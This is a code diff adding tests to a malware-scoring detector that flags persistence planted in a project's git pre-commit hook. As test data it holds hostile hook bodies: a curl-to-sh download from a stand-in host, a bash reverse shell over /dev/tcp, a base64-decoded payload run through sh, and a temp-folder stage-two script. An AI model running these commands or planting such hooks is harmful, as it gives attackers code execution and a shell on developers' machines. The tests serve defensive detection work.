@@ -112,3 +112,45 @@ describe('destructive-writes', () => {
     expect(scoreReport(reportWith({ fileWrites: [...homeFiles(DESTRUCTIVE_MIN_FILES - 1), ...cleanup, ...project] })).reasons).toEqual([]);
   });
 });
+
+describe("persistence through the project's own git hooks", () => {
+  const hookPath = '/home/jordan/projects/app/.git/hooks/pre-commit';
+  const withHook = (head: string) =>
+    scoreReport(
+      reportWith({
+        fileWrites: [write(hookPath)],
+        persistenceFiles: [
+          { path: hookPath, normalizedPath: '<HOME>/projects/app/.git/hooks/pre-commit', bytes: head.length, head, truncated: false },
+        ],
+      }),
+    );
+
+  it("leaves out a hook installer's launcher: it hands over to the project's dependencies (URLs in comments do not count)", () => {
+    const launchers = [
+      '#!/usr/bin/env bash\n# https://magit.vc/manual\nRESOLVED="$(node -e "console.log(require.resolve(\'x\'))")"\n"$BINARY" "$RESOLVED"\n',
+      '#!/bin/sh\n# husky\n. "$(dirname "$0")/husky.sh"\n',
+      '#!/bin/sh\nnode "./node_modules/yorkie/src/runner.js" pre-commit || exit 1\n',
+      '#!/bin/sh\nnpx --no-install some-runner run pre-commit "$@"\n',
+    ];
+    for (const head of launchers) expect(rules(withHook(head)), head).toEqual([]);
+  });
+
+  it('fires on an implant: a download, a connection, a decoder, or a script parked in a temp folder', () => {
+    const implants = [
+      '#!/bin/sh\n(curl -s http://h.example/x | sh) >/dev/null 2>&1 &\n',
+      '#!/bin/sh\nnode node_modules/.bin/x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n',
+      '#!/bin/sh\necho aGVsbG8= | base64 -d | sh\n',
+      '#!/bin/sh\nnpx x; sh /tmp/.cache/stage2.sh\n',
+      '#!/bin/sh\necho hello\n', // hands over to nothing the project installed
+    ];
+    for (const head of implants) {
+      const v = withHook(head);
+      expect(rules(v), head).toEqual(['persistence']);
+      expect(v.verdict).toBe('malicious');
+    }
+  });
+
+  it('fires when the hook was not read back (fail closed)', () => {
+    expect(rules(scoreReport(reportWith({ fileWrites: [write(hookPath)] })))).toEqual(['persistence']);
+  });
+});
